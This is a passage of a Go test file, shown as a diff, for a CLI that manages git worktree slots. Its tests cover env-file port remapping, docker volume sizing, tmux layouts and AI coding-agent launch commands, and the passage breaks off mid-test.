+func TestDiffEnv(t *testing.T) {
+	main := "PORT=3000\nDB_PORT=5432\nDATABASE_URL=postgres://u:p@localhost:5432/app\nAPI_KEY=op://dev/api/key\nNEW_SECRET=abc\nDEBUG=1\n"
+	slot := "COMPOSE_PROJECT_NAME=app-9\nPORT=3009\nDB_PORT=5441\nDATABASE_URL=\"postgres://u:p@localhost:5441/app\"\nAPI_KEY=resolved\nDEBUG=0\nLOCAL_ONLY=x\n"
+
+	portMap := envPortMap(envValues(main), envValues(slot))
+	if want := map[int]int{3000: 3009, 5432: 5441}; !reflect.DeepEqual(portMap, want) {
+		t.Fatalf("envPortMap = %v, want %v", portMap, want)
+	}
+	got := diffEnv(".env", main, slot, portMap, "app-9")
+	want := EnvDiff{File: ".env", Missing: []string{"NEW_SECRET"}, Extra: []string{"LOCAL_ONLY"}, Changed: []string{"DEBUG"}}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("diffEnv = %+v, want %+v", got, want)
+	}
+	if d := diffEnv(".env", main, main, nil, "app"); !d.Empty() {
+		t.Errorf("diffEnv of identical files = %+v, want empty", d)
+	}
+}
+
+func TestSyncedContent(t *testing.T) {
+	portMap := map[int]int{3000: 3009, 4000: 4009}
+	block := envOverrideBegin + "\nPORT=3009\n" + envOverrideEnd + "\n"
+	links := []SlotLink{{Slot: "api-5", Ports: map[int]int{4009: 4005}}}
+	tests := []struct {
+		rel, content, slotContent string
+		links                     []SlotLink
+		want                      string
+	}{
+		{".env", "PORT=3000\n", "", nil, "COMPOSE_PROJECT_NAME=app-9\nPORT=3009\n"},
+		{"apps/web/.env.local", "API=http://localhost:3000\n", "", nil, "COMPOSE_PROJECT_NAME=app-9\nAPI=http://localhost:3009\n"},
+		{".mcp.json", `{"url":"http://localhost:3000"}`, "", nil, `{"url":"http://localhost:3009"}`},
+		{"config/local.json", `{"url":"http://localhost:3000"}`, "", nil, `{"url":"http://localhost:3000"}`},
+		// the managed block for a tracked .env survives the sync
+		{".env.local", "SECRET=new\n", "SECRET=old\n" + block, nil, "COMPOSE_PROJECT_NAME=app-9\nSECRET=new\n" + block},
+		{".env", "PORT=3000\n", block, nil, "COMPOSE_PROJECT_NAME=app-9\nPORT=3009\n"},
+		// so do link rewrites, in env files and .mcp.json but not elsewhere
+		{".env.local", "API_URL=http://localhost:4000\n", "", links, "COMPOSE_PROJECT_NAME=app-9\nAPI_URL=http://localhost:4005\n"},
+		{".mcp.json", `{"api":"http://localhost:4000"}`, "", links, `{"api":"http://localhost:4005"}`},
+		{"config/local.json", `{"api":"http://localhost:4000"}`, "", links, `{"api":"http://localhost:4000"}`},
+	}
+	for _, tt := range tests {
+		if got := syncedContent(tt.rel, tt.content, tt.slotContent, portMap, "app-9", tt.links); got != tt.want {
+			t.Errorf("syncedContent(%s, slot %q) = %q, want %q", tt.rel, tt.slotContent, got, tt.want)
+		}
+	}
+}
+
+func TestEnvSyncKeepsOverrideBlock(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	root := t.TempDir()
+	oldRegistry, oldYes := registryPath, assumeYes
+	defer func() { registryPath, assumeYes = oldRegistry, oldYes }()
+	registryPath = filepath.Join(root, "config", "registry.json")
+	assumeYes = true
+
+	mainRepo := filepath.Join(root, "app")
+	slotPath := filepath.Join(root, "app-1")
+	os.MkdirAll(mainRepo, 0755)
+	os.WriteFile(filepath.Join(mainRepo, ".gitignore"), []byte(".env.local\n"), 0644)
+	os.WriteFile(filepath.Join(mainRepo, ".env"), []byte("PORT=3000\n"), 0644)
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-C", mainRepo}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	git("init", "-q")
+	git("add", "-A")
+	git("commit", "-qm", "init")
+	git("worktree", "add", "-q", "-b", "slot-1", slotPath)
+	saveRegistry(&Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: mainRepo}},
+		Slots:    map[string]SlotConfig{"app-1": {Project: "app", Branch: "slot-1", Number: 1}},
+	})
+
+	// The slot's tracked .env keeps main's port; its own is in the block
+	block := envOverrideBegin + "\nPORT=3001\n" + envOverrideEnd + "\n"
+	os.WriteFile(filepath.Join(slotPath, ".env.local"), []byte("SECRET=old\n"+block), 0644)
+	os.WriteFile(filepath.Join(mainRepo, ".env.local"), []byte("SECRET=new\nWEB_URL=http://localhost:3000\n"), 0644)
+
+	t.Chdir(slotPath)
+	cmdEnvSync(nil)
+
+	got, _ := os.ReadFile(filepath.Join(slotPath, ".env.local"))
+	want := "COMPOSE_PROJECT_NAME=app-1\nSECRET=new\nWEB_URL=http://localhost:3001\n" + block
+	if string(got) != want {
+		t.Errorf(".env.local after env sync = %q, want %q", got, want)
+	}
+}
+
+func TestTrackAgentCPU(t *testing.T) {
+	t0 := time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
+	t1 := t0.Add(15 * time.Minute)
+	prev := map[int]agentSample{1: {CPU: "00:01:00", Since: t0}, 2: {CPU: "00:02:00", Since: t0}, 3: {CPU: "00:00:01", Since: t0}}
+	got := trackAgentCPU(prev, map[int]string{1: "00:01:00", 2: "00:02:30", 4: "00:00:00"}, t1)
+	want := map[int]agentSample{1: {CPU: "00:01:00", Since: t0}, 2: {CPU: "00:02:30", Since: t1}, 4: {CPU: "00:00:00", Since: t1}}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("trackAgentCPU = %v, want %v", got, want)
+	}
+}
+
+func TestPortCollisions(t *testing.T) {
+	got := portCollisions(map[string]map[string]string{
+		"app (main)": {"SLOT_PORT": "3000"},
+		"app-1":      {"SLOT_PORT": "3001", "SLOT_DB_PORT": "5433"},
+		"app-x":      {"SLOT_PORT": "3001"},
+		"app-2":      {"SLOT_PORT": "3002", "SLOT_API_PORT": "3002"},
+	})
+	want := []DaemonFinding{{Kind: "port", Slot: "app-1", Message: "port 3001 is used by app-1, app-x"}}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("portCollisions = %v, want %v", got, want)
+	}
+}
+
+func TestNewFindings(t *testing.T) {
+	a := DaemonFinding{Kind: "stale", Slot: "app-1", Message: "m"}
+	b := DaemonFinding{Kind: "idle", Slot: "app-2", Message: "m"}
+	if got := newFindings([]DaemonFinding{a}, []DaemonFinding{a, b}); !reflect.DeepEqual(got, []DaemonFinding{b}) {
+		t.Errorf("newFindings = %v, want [%v]", got, b)
+	}
+	if got := newFindings([]DaemonFinding{a, b}, []DaemonFinding{a}); got != nil {
+		t.Errorf("newFindings = %v, want none", got)
+	}
+}
+
+func TestNotifyCandidates(t *testing.T) {
+	tests := []struct {
+		goos string
+		want [][]string
+	}{
+		{"linux", [][]string{{"notify-send", "t", `say "hi"`}}},
+		{"darwin", [][]string{{"osascript", "-e", `display notification "say \"hi\"" with title "t"`}}},
+		{"windows", nil},
+	}
+	for _, tt := range tests {
+		if got := notifyCandidates(tt.goos, "t", `say "hi"`); !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("notifyCandidates(%s) = %v, want %v", tt.goos, got, tt.want)
+		}
+	}
+}
+
+func TestCountProjectSlots(t *testing.T) {
+	reg := &Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: "/w/app"}, "api": {Path: "/w/api"}},
+		Slots: map[string]SlotConfig{
+			"app-1":    {Project: "app", Number: 1},
+			"app-2":    {Project: "app", Number: 2},
+			"app-gone": {Project: "app", Name: "gone"},
+			"api-1":    {Project: "api", Number: 1},
+		},
+	}
+	exists := func(path string) bool { return path != "/w/app-gone" }
+	if got := countProjectSlots(reg, "app", exists); got != 2 {
+		t.Errorf("countProjectSlots(app) = %d, want 2", got)
+	}
+	if got := countProjectSlots(reg, "web", exists); got != 0 {
+		t.Errorf("countProjectSlots(web) = %d, want 0", got)
+	}
+}
+
+func TestParseDuOutput(t *testing.T) {
+	got := parseDuOutput("120\t/w/app-1\n4\t/w/app 2/node_modules\ndu: cannot read x\n")
+	want := map[string]int64{"/w/app-1": 120 * 1024, "/w/app 2/node_modules": 4 * 1024}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("parseDuOutput = %v, want %v", got, want)
+	}
+}
+
+func TestParseDockerSize(t *testing.T) {
+	tests := []struct {
+		in   string
+		want int64
+	}{
+		{"0B", 0},
+		{"512B", 512},
+		{"12.5kB", 12500},
+		{"48.3MB", 48300000},
+		{"1.2GB", 1200000000},
+		{"N/A", 0},
+	}
+	for _, tt := range tests {
+		if got := parseDockerSize(tt.in); got != tt.want {
+			t.Errorf("parseDockerSize(%q) = %d, want %d", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestComposeVolumeSizes(t *testing.T) {
+	df := `{"Images":[],"Volumes":[
+		{"Name":"app-1_pgdata","Labels":"com.docker.compose.project=app-1,com.docker.compose.volume=pgdata","Size":"1.5GB"},
+		{"Name":"app-1_redis","Labels":"com.docker.compose.volume=redis,com.docker.compose.project=app-1","Size":"2MB"},
+		{"Name":"loose","Labels":"","Size":"9GB"}]}`
+	got := composeVolumeSizes([]byte(df))
+	if want := map[string]int64{"app-1": 1502000000}; !reflect.DeepEqual(got, want) {
+		t.Errorf("composeVolumeSizes = %v, want %v", got, want)
+	}
+}
+
+func TestIdleFor(t *testing.T) {
+	now := time.Date(2026, 3, 20, 12, 0, 0, 0, time.UTC)
+	slot := SlotConfig{CreatedAt: "2026-03-01T12:00:00Z", AgentAt: "2026-03-10T12:00:00Z"}
+	if got := idleFor(slot, now); got != 10*24*time.Hour {
+		t.Errorf("idleFor = %v, want 240h", got)
+	}
+	if got := idleFor(SlotConfig{}, now); got != 0 {
+		t.Errorf("idleFor without timestamps = %v, want 0", got)
+	}
+	if got := idleLabel(10 * 24 * time.Hour); got != "idle 10 days" {
+		t.Errorf("idleLabel(10d) = %q", got)
+	}
+	if got := idleLabel(30 * time.Hour); got != "idle 30h" {
+		t.Errorf("idleLabel(30h) = %q", got)
+	}
+}
+
+func TestIsDevServerCommand(t *testing.T) {
+	tests := []struct {
+		command []string
+		want    bool
+	}{
+		{[]string{"pnpm", "dev"}, true},
+		{[]string{"npm", "run", "dev"}, true},
+		{[]string{"bin/rails", "server"}, true},
+		{[]string{"docker", "compose", "up"}, true},
+		{[]string{"pnpm", "test"}, false},
+		{[]string{"dev"}, false},
+	}
+	for _, tt := range tests {
+		if got := isDevServerCommand(tt.command); got != tt.want {
+			t.Errorf("isDevServerCommand(%v) = %v, want %v", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestReorderGroups(t *testing.T) {
+	groups := map[string]GroupConfig{
+		"a": {Name: "A", Order: 1},
+		"b": {Name: "B", Order: 2},
+		"c": {Name: "C", Order: 5},
+		"d": {Name: "D", Order: 5},
+	}
+	order := func(groups map[string]GroupConfig) map[string]int {
+		m := map[string]int{}
+		for id, g := range groups {
+			m[id] = g.Order
+		}
+		return m
+	}
+	tests := []struct {
+		id   string
+		pos  int
+		want map[string]int
+	}{
+		{"c", 1, map[string]int{"c": 1, "a": 2, "b": 3, "d": 4}},
+		{"a", 3, map[string]int{"b": 1, "c": 2, "a": 3, "d": 4}},
+		{"a", 99, map[string]int{"b": 1, "c": 2, "d": 3, "a": 4}},
+		{"", 0, map[string]int{"a": 1, "b": 2, "c": 3, "d": 4}},
+	}
+	for _, tt := range tests {
+		got := reorderGroups(groups, tt.id, tt.pos)
+		if !reflect.DeepEqual(order(got), tt.want) {
+			t.Errorf("reorderGroups(%q, %d) = %v, want %v", tt.id, tt.pos, order(got), tt.want)
+		}
+		if got["b"].Name != "B" {
+			t.Errorf("reorderGroups dropped names: %v", got)
+		}
+	}
+}
+
+func TestGroupRegistry(t *testing.T) {
+	reg := &Registry{
+		Groups: map[string]GroupConfig{"acme": {Name: "Acme"}},
+		Projects: map[string]ProjectConfig{
+			"web": {Path: "/w/web", Group: "acme"},
+			"api": {Path: "/w/api", Group: "acme"},
+			"own": {Path: "/w/own"},
+		},
+		Slots: map[string]SlotConfig{
+			"web-1": {Project: "web"},
+			"api-1": {Project: "api"},
+			"own-1": {Project: "own"},
+		},
+	}
+	scoped := groupRegistry(reg, "acme")
+	if got := slices.Sorted(maps.Keys(scoped.Projects)); !reflect.DeepEqual(got, []string{"api", "web"}) {
+		t.Errorf("projects = %v", got)
+	}
+	if got := slices.Sorted(maps.Keys(scoped.Slots)); !reflect.DeepEqual(got, []string{"api-1", "web-1"}) {
+		t.Errorf("slots = %v", got)
+	}
+	if len(reg.Slots) != 3 {
+		t.Errorf("groupRegistry modified the registry: %v", reg.Slots)
+	}
+
+	agents := []AgentProcess{{PID: 1, CWD: "/w/web-1/src"}, {PID: 2, CWD: "/w/own-1"}, {PID: 3, CWD: "/w/api"}}
+	var pids []int
+	for _, a := range agentsIn(scoped, agents) {
+		pids = append(pids, a.PID)
+	}
+	if !reflect.DeepEqual(pids, []int{1, 3}) {
+		t.Errorf("agentsIn = %v, want [1 3]", pids)
+	}
+}
+
+func TestLinkedPorts(t *testing.T) {
+	linked, err := parseLinkedPorts("4000:4007, 5432:5439")
+	if err != nil || !maps.Equal(linked, map[int]int{4000: 4007, 5432: 5439}) {
+		t.Fatalf("parseLinkedPorts = %v, %v", linked, err)
+	}
+	if got := formatLinkedPorts(linked); got != "4000:4007,5432:5439" {
+		t.Errorf("formatLinkedPorts = %q", got)
+	}
+	for _, bad := range []string{"4000", "4000:x", "a:4007"} {
+		if _, err := parseLinkedPorts(bad); err == nil {
+			t.Errorf("parseLinkedPorts(%q) should fail", bad)
+		}
+	}
+
+	portMap := map[int]int{3000: 3001, 4000: 4001}
+	pinned, taken := applyLinkedPorts(portMap, linked)
+	if portMap[4000] != 4007 || portMap[3000] != 3001 {
+		t.Errorf("portMap = %v", portMap)
+	}
+	if !pinned[4000] || pinned[3000] || !taken[4007] || !taken[5439] {
+		t.Errorf("pinned = %v, taken = %v", pinned, taken)
+	}
+}
+
+func TestStackOrder(t *testing.T) {
+	tests := []struct {
+		name        string
+		owned, refs map[string][]int
+		want        []string
+	}{
+		{"no links", nil, nil, []string{"api", "web", "worker"}},
+		{
+			"web calls api",
+			map[string][]int{"web": {3000}, "api": {4000}},
+			map[string][]int{"web": {4000}},
+			[]string{"api", "web", "worker"},
+		},
+		{
+			"chain",
+			map[string][]int{"web": {3000}, "api": {4000}, "worker": {5000}},
+			map[string][]int{"web": {4000}, "api": {5000}},
+			[]string{"worker", "api", "web"},
+		},
+		{
+			"cycle keeps name order",
+			map[string][]int{"web": {3000}, "api": {4000}},
+			map[string][]int{"web": {4000}, "api": {3000}},
+			[]string{"worker", "api", "web"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := stackOrder([]string{"web", "worker", "api"}, tt.owned, tt.refs)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("stackOrder = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLinkRewrites(t *testing.T) {
+	mainEnv := map[string]string{
+		"PORT":     "3000",
+		"API_URL":  "http://localhost:4000/v1",
+		"AUTH_URL": "http://localhost:4100",
+		"DOCS_URL": "http://localhost:8080",
+	}
+	slotEnv := map[string]string{
+		"PORT":     "3003",
+		"API_URL":  "http://localhost:4003/v1",
+		"AUTH_URL": "http://localhost:4107",
+		"DOCS_URL": "http://localhost:8083",
+	}
+	provider := map[int]int{4000: 4007, 4100: 4107}
+
+	rewrites, refs := linkRewrites(mainEnv, slotEnv, provider)
+	if !maps.Equal(rewrites, map[int]int{4003: 4007}) || refs != 2 {
+		t.Errorf("linkRewrites = %v, %d refs", rewrites, refs)
+	}
+
+	if _, refs := linkRewrites(mainEnv, slotEnv, map[int]int{5432: 5439}); refs != 0 {
+		t.Errorf("refs = %d for an unrelated provider", refs)
+	}
+}
+
+func TestHomeRelative(t *testing.T) {
+	reg := &Registry{Projects: map[string]ProjectConfig{
+		"app": {Path: "/home/ana/code/app"},
+		"api": {Path: "/srv/api"},
+	}}
+	homeRelative(reg, "/home/ana", true)
+	if reg.Projects["app"].Path != "~/code/app" || reg.Projects["api"].Path != "/srv/api" {
+		t.Fatalf("export paths = %+v", reg.Projects)
+	}
+	homeRelative(reg, "/Users/ana", false)
+	if reg.Projects["app"].Path != filepath.Join("/Users/ana", "code", "app") || reg.Projects["api"].Path != "/srv/api" {
+		t.Errorf("import paths = %+v", reg.Projects)
+	}
+}
+
+func TestParseWorktreeList(t *testing.T) {
+	out := `worktree /code/app
+HEAD 1111111111111111111111111111111111111111
+branch refs/heads/main
+
+worktree /code/app-3
+HEAD 2222222222222222222222222222222222222222
+branch refs/heads/feat/login
+
+worktree /code/app-review
+HEAD 3333333333333333333333333333333333333333
+detached
+`
+	want := []WorktreeEntry{
+		{"/code/app", "main"},
+		{"/code/app-3", "feat/login"},
+		{"/code/app-review", "(detached)"},
+	}
+	if got := parseWorktreeList(out); !slices.Equal(got, want) {
+		t.Errorf("parseWorktreeList = %v, want %v", got, want)
+	}
+}
+
+func TestAdoptIdentity(t *testing.T) {
+	tests := []struct {
+		dir     string
+		anyName bool
+		number  int
+		name    string
+		ok      bool
+	}{
+		{"app-3", false, 3, "", true},
+		{"app-login", false, 0, "login", true},
+		{"app-", false, 0, "", false},
+		{"hotfix", false, 0, "", false},
+		{"hotfix", true, 0, "hotfix", true},
+		{"app", true, 0, "", false},
+	}
+	for _, tt := range tests {
+		number, name, ok := adoptIdentity("app", tt.dir, tt.anyName)
+		if number != tt.number || name != tt.name || ok != tt.ok {
+			t.Errorf("adoptIdentity(%q, %v) = %d, %q, %v", tt.dir, tt.anyName, number, name, ok)
+		}
+	}
+}
+
+func TestPortDrift(t *testing.T) {
+	mainEnv := map[string]string{"PORT": "3000", "DB_PORT": "5432", "REDIS_PORT": "6379", "NAME": "app"}
+	slotEnv := map[string]string{"PORT": "3003", "DB_PORT": "5432", "REDIS_PORT": "6390", "NAME": "app"}
+	expected := map[int]int{3000: 3003, 5432: 5435, 6379: 6382}
+
+	onMain, unexpected := portDrift(mainEnv, slotEnv, expected)
+	if !slices.Equal(onMain, []string{"DB_PORT=5432"}) {
+		t.Errorf("onMain = %v", onMain)
+	}
+	if !slices.Equal(unexpected, []string{"REDIS_PORT=6390 (expected 6382)"}) {
+		t.Errorf("unexpected = %v", unexpected)
+	}
+}
+
+func TestPublishedPorts(t *testing.T) {
+	got := publishedPorts("0.0.0.0:5441->5432/tcp, :::5441->5432/tcp, 6379/tcp, 127.0.0.1:8081->80/tcp")
+	if !slices.Equal(got, []int{5441, 8081}) {
+		t.Errorf("publishedPorts = %v", got)
+	}
+	if got := publishedPorts(""); len(got) != 0 {
+		t.Errorf("publishedPorts(\"\") = %v", got)
+	}
+}
+
+func TestDeriveOffset(t *testing.T) {
+	tests := []struct {
+		name   string
+		deltas []int
+		used   map[int]bool
+		want   int
+	}{
+		{"consistent shift", []int{7, 7, 7}, nil, 7},
+		{"one port bumped", []int{7, 8, 7}, nil, 7},
+		{"tie takes smallest", []int{9, 7}, nil, 7},
+		{"no rewrites, first free", nil, map[int]bool{1: true, 2: true, 4: true}, 3},
+		{"negative ignored", []int{-3}, map[int]bool{}, 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := deriveOffset(tt.deltas, tt.used); got != tt.want {
+				t.Errorf("deriveOffset(%v) = %d, want %d", tt.deltas, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLineChanges(t *testing.T) {
+	old := "PORT=3000\nNAME=app\nDB_PORT=5432\n"
+	updated := "PORT=3003\nNAME=app\nDB_PORT=5435\nCOMPOSE_PROJECT_NAME=app-3\n"
+	want := []LineChange{
+		{".env", 1, "PORT=3000", "PORT=3003"},
+		{".env", 3, "DB_PORT=5432", "DB_PORT=5435"},
+		{".env", 4, "", "COMPOSE_PROJECT_NAME=app-3"},
+	}
+	if got := lineChanges(".env", old, updated); !slices.Equal(got, want) {
+		t.Errorf("lineChanges = %v, want %v", got, want)
+	}
+	if got := lineChanges(".env", old, old); len(got) != 0 {
+		t.Errorf("lineChanges(same) = %v", got)
+	}
+}
+
+func TestParseTmuxLayout(t *testing.T) {
+	layout, err := parseTmuxLayout([]byte(`{"windows": [
+		{"name": "work", "layout": "main-vertical", "panes": ["{agent}", "pnpm dev", "pnpm storybook"]},
+		{"name": "shell"}
+	]}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(layout.Windows) != 2 || len(layout.Windows[0].Panes) != 3 || !slices.Equal(layout.Windows[1].Panes, []string{""}) {
+		t.Errorf("layout = %+v", layout)
+	}
+
+	for _, bad := range []string{`{}`, `{"windows": [{"panes": ["x"]}]}`, `{"windows": [{"name": "a"}, {"name": "a"}]}`, `nope`} {
+		if _, err := parseTmuxLayout([]byte(bad)); err == nil {
+			t.Errorf("parseTmuxLayout(%s) should fail", bad)
+		}
+	}
+}
+
+func TestExpandPane(t *testing.T) {
+	vars := map[string]string{"{agent}": "slot-cli start --no-layout", "{dev}": "pnpm dev", "{logs}": ""}
+	tests := map[string]string{
+		"{agent}":              "slot-cli start --no-layout",
+		"{logs}":               "",
+		"":                     "",
+		"{dev} -- --port 4000": "pnpm dev -- --port 4000",
+		"pnpm storybook":       "pnpm storybook",
+	}
+	for pane, want := range tests {
+		if got := expandPane(pane, vars); got != want {
+			t.Errorf("expandPane(%q) = %q, want %q", pane, got, want)
+		}
+	}
+}
+
+func TestAgentCommand(t *testing.T) {
+	claude := builtinAgents["claude"]
+	tests := []struct {
+		name    string
+		command string
+		opts    AgentOptions
+		want    string
+	}{
+		{"safe default", claude.Start, AgentOptions{}, "claude"},
+		{"explicit default", claude.Start, AgentOptions{Permissions: "default"}, "claude"},
+		{"skip", claude.Resume, AgentOptions{Permissions: "skip"}, "claude --resume {session} --dangerously-skip-permissions"},
+		{"mode and flags", claude.Continue, AgentOptions{Permissions: "accept-edits", Flags: "--model opus"}, "claude --continue --permission-mode acceptEdits --model opus"},
+		{"binary", claude.Continue, AgentOptions{Binary: "/opt/bin/claude-wrapper"}, "/opt/bin/claude-wrapper --continue"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := agentCommand(tt.command, claude, tt.opts)
+			if err != nil || got != tt.want {
+				t.Errorf("agentCommand = %q, %v, want %q", got, err, tt.want)
+			}
+		})
+	}
+
+	if _, err := agentCommand("aider", builtinAgents["aider"], AgentOptions{Permissions: "plan"}); err == nil {
+		t.Error("aider has no plan mode, want an error")
+	}
+}
+
+func TestLogNameForCommand(t *testing.T) {
+	tests := map[string]string{
+		"pnpm dev":                   "dev",
+		"npm run storybook":          "storybook",
+		"bin/rails server":           "server",
+		"python manage.py runserver": "runserver",
+		"./node_modules/.bin/vite":   "vite",
+		"":                           "",
+	}
+	for command, want := range tests {
+		if got := logNameForCommand(command); got != want {
+			t.Errorf("logNameForCommand(%q) = %q, want %q", command, got, want)
+		}
+	}
+}
+
+func TestLastLines(t *testing.T) {
+	if got := lastLines("a\nb\nc\n", 2); !slices.Equal(got, []string{"b", "c"}) {
+		t.Errorf("lastLines = %v", got)
+	}
+	if got := lastLines("a\nb", 5); !slices.Equal(got, []string{"a", "b"}) {
+		t.Errorf("lastLines = %v", got)
+	}
+	if got := lastLines("", 5); got != nil {
+		t.Errorf("lastLines(\"\") = %v", got)
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	if got := shellQuote("/tmp/it's here.log"); got != `'/tmp/it'\''s here.log'` {
+		t.Errorf("shellQuote = %s", got)
+	}
+}
+
+func TestHealthURLs(t *testing.T) {
+	envPorts := map[string]string{"SLOT_PORT": "3001", "SLOT_API_PORT": "4001"}
+	tests := []struct {
+		templates []string
+		want      []string
+		wantErr   bool
+	}{
+		{defaultHealthURLs, []string{"http://localhost:3001/", "http://localhost:3001/api/health"}, false},
+		{[]string{"http://localhost:{API_PORT}/ping"}, []string{"http://localhost:4001/ping"}, false},
+		{[]string{"http://localhost:{WEB_PORT}/"}, nil, true},
+	}
+	for _, tt := range tests {
+		got, err := healthURLs(tt.templates, envPorts)
+		if (err != nil) != tt.wantErr || !slices.Equal(got, tt.want) {
+			t.Errorf("healthURLs(%v) = %v, %v; want %v (err %v)", tt.templates, got, err, tt.want, tt.wantErr)
+		}
+	}
+}
+
+func TestTunnelURL(t *testing.T) {
+	tests := []struct {
+		output string
+		want   string
+	}{
+		{"2024-05-01T10:00:00Z INF |  https://quiet-fox-lamp.trycloudflare.com  |", "https://quiet-fox-lamp.trycloudflare.com"},
+		{`t=2024 lvl=info msg="started tunnel" url=https://a1b2-203-0-113-5.ngrok-free.app`, "https://a1b2-203-0-113-5.ngrok-free.app"},
+		{"INF Requesting new quick Tunnel on trycloudflare.com...", ""},
+	}
+	for _, tt := range tests {
+		if got := tunnelURL(tt.output); got != tt.want {
+			t.Errorf("tunnelURL(%q) = %q, want %q", tt.output, got, tt.want)
+		}
+	}
+}
+
+func TestStripJSONC(t *testing.T) {
+	in := `{
+  // image
+  "image": "node:20", /* inline */
+  "url": "http://x//y",
+  "forwardPorts": [3000,],
+}`
+	var got map[string]any
+	if err := json.Unmarshal(stripJSONC([]byte(in)), &got); err != nil {
+		t.Fatalf("stripJSONC output is not JSON: %v\n%s", err, stripJSONC([]byte(in)))
+	}
+	if got["url"] != "http://x//y" || got["image"] != "node:20" {
+		t.Errorf("stripJSONC lost string content: %v", got)
+	}
+}
+
+func TestDevcontainerConfig(t *testing.T) {
+	envPorts := map[string]string{"SLOT_PORT": "3001", "SLOT_DB_PORT": "5433"}
+
+	got := devcontainerConfig(map[string]any{
+		"build":        map[string]any{"dockerfile": "Dockerfile"},
+		"runArgs":      []any{"--name", "app", "--init"},
+		"forwardPorts": []any{3000},
+	}, "app-1", envPorts)
+	if got["name"] != "app-1" {
+		t.Errorf("name = %v, want app-1", got["name"])
+	}
+	if !reflect.DeepEqual(got["build"], map[string]any{"dockerfile": "../Dockerfile", "context": ".."}) {
+		t.Errorf("build = %v", got["build"])
+	}
+	if !reflect.DeepEqual(got["runArgs"], []any{"--init", "--name", "app-1-devcontainer"}) {
+		t.Errorf("runArgs = %v", got["runArgs"])
+	}
+	if !reflect.DeepEqual(got["forwardPorts"], []any{3001, 5433}) {
+		t.Errorf("forwardPorts = %v", got["forwardPorts"])
+	}
+
+	got = devcontainerConfig(map[string]any{"dockerComposeFile": []any{"../compose.yml", "compose.dev.yml"}}, "app-1", envPorts)
+	if !reflect.DeepEqual(got["dockerComposeFile"], []any{"../../compose.yml", "../compose.dev.yml"}) {
+		t.Errorf("dockerComposeFile = %v", got["dockerComposeFile"])
+	}
+	if _, ok := got["runArgs"]; ok {
+		t.Errorf("compose config got runArgs %v", got["runArgs"])
+	}
+}
+
+func TestDeletedSlotResources(t *testing.T) {
+	df := `{"Volumes":[
+		{"Name":"app-1_pgdata","Labels":"com.docker.compose.project=app-1","Size":"1.5GB"},
+		{"Name":"app-4_pgdata","Labels":"com.docker.compose.project=app-4,com.docker.compose.volume=pgdata","Size":"5GB"},
+		{"Name":"app_pgdata","Labels":"com.docker.compose.project=app","Size":"2GB"},
+		{"Name":"other-2_data","Labels":"com.docker.compose.project=other-2","Size":"1GB"},
+		{"Name":"loose","Labels":"","Size":"9GB"}]}`
+	volumes := composeVolumes([]byte(df))
+	if len(volumes) != 4 {
+		t.Fatalf("composeVolumes found %d volumes, want 4", len(volumes))
+	}
+	live := map[string]bool{"app": true, "app-1": true}
+	got := deletedSlotResources(volumes, []string{"app"}, live)
+	want := []DockerResource{{Name: "app-4_pgdata", Project: "app-4", Size: 5e9}}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("deletedSlotResources = %+v, want %+v", got, want)
+	}
+}
+
+func TestDirsNamed(t *testing.T) {
+	root := t.TempDir()
+	for _, dir := range []string{
+		"node_modules/pkg/dist",
+		"apps/web/.next/cache",
+		"apps/web/src",
+		"packages/ui/dist",
+		".git/dist",
+	} {
+		if err := os.MkdirAll(filepath.Join(root, dir), 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var got []string
+	for _, dir := range dirsNamed(root, artifactDirNames...) {
+		rel, _ := filepath.Rel(root, dir)
+		got = append(got, rel)
+	}
+	want := []string{"apps/web/.next", "node_modules", "packages/ui/dist"}
+	if !slices.Equal(got, want) {
+		t.Errorf("dirsNamed() = %v, want %v", got, want)
+	}
+}
+
+func TestReclaimedLines(t *testing.T) {
+	var r Reclaimed
+	r.Add(SlotDiskUsage{Tree: 2 << 20, NodeModules: 300 << 20})
+	r.Add(SlotDiskUsage{Tree: 1 << 20, Docker: 40 << 20})
+	want := []string{
+		"  worktrees        3.0M",
+		"  volumes           40M",
+		"  artifacts        300M",
+		"  total            343M",
+	}
+	if got := r.Lines(); !slices.Equal(got, want) {
+		t.Errorf("Lines() = %q, want %q", got, want)
+	}
+	if got := (Reclaimed{}).Lines(); len(got) != 1 {
+		t.Errorf("empty Lines() = %q, want only the total", got)
+	}
+}
+
+func TestToggleCleanItems(t *testing.T) {
+	tests := []struct {
+		input   string
+		want    []bool
+		wantErr bool
+	}{
+		{"", []bool{true, true, false, false}, false},
+		{"3", []bool{true, true, true, false}, false},
+		{"1, 2", []bool{false, false, false, false}, false},
+		{"2-4", []bool{true, false, true, true}, false},
+		{"n 4", []bool{false, false, false, true}, false},
+		{"a", []bool{true, true, true, true}, false},
+		{"5", nil, true},
+		{"3 9", []bool{true, true, false, false}, true},
+		{"0", nil, true},
+		{"3-2", nil, true},
+		{"x", nil, true},
+	}
+	for _, tt := range tests {
